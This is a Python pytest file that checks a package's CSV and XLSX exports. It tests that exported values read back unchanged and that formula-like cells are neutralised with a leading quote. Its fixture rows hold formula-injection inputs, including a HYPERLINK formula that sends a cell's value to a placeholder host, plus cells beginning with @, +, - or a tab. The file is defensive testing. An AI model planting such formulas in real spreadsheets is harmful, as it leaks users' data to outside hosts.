"""An export read back by the reader gives exactly the exported values
(FC-32): the record list and the import error report are meant to be
edited and imported again, so a formula's neutralising quote must never
become data, and a line break or a leading tab must survive."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from dtgx.exports import Column, ColumnKind, write_csv, write_xlsx
from dtgx.spreadsheets import open_table

COLUMNS = [
    Column("姓名", ColumnKind.TEXT),
    Column("联系电话", ColumnKind.IDENTIFIER),
    Column("人数", ColumnKind.INTEGER),
    Column("备注", ColumnKind.TEXT),
]
ROWS: list[list[object]] = [
    ['=HYPERLINK("http://example.invalid/?x="&B2,"点击")', "+8613800138000", -3, "-3"],
    ["@SUM(1+1)", "-1", 0, "+86-1"],
    ["'=已有引号", "'+1", 1, "'普通引用"],
    ["\t=1+2", "13800138000", 2, "\t前面有制表符"],
    ["张三", "430821", 3, "第一行\n第二行, 有逗号"],
    ["=", "#N/A", 4, " =1"],
]


def read_back(path: Path) -> list[list[object]]:
    rows = [list(cells) for _line, cells in open_table(path).rows()]
    return rows[1:]


def test_a_csv_export_reads_back_unchanged(tmp_path: Path) -> None:
    path = tmp_path / "名单.csv"
    path.write_bytes(b"".join(write_csv(ROWS, COLUMNS)))

    read = read_back(path)

    expected = [[str(cell) for cell in row] for row in ROWS]
    assert read == expected


def test_a_csv_export_still_neutralises_formulas_for_spreadsheets() -> None:
    """What Excel or WPS sees when it opens the CSV: text behind a quote."""
    data = b"".join(write_csv(ROWS[:2], COLUMNS)).decode("utf-8-sig")

    fields = list(csv.reader(io.StringIO(data, newline="")))[1:]

    assert fields == [
        ["'" + str(ROWS[0][0]), "'+8613800138000", "-3", "'-3"],
        ["'@SUM(1+1)", "'-1", "0", "'+86-1"],
    ]


@pytest.mark.parametrize("name", ["名单.xlsx", "名单.csv"])  # also renamed
def test_an_xlsx_export_reads_back_unchanged(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    with path.open("wb") as stream:
        write_xlsx(ROWS, COLUMNS, stream, "名单")

    read = read_back(path)

    assert read == ROWS
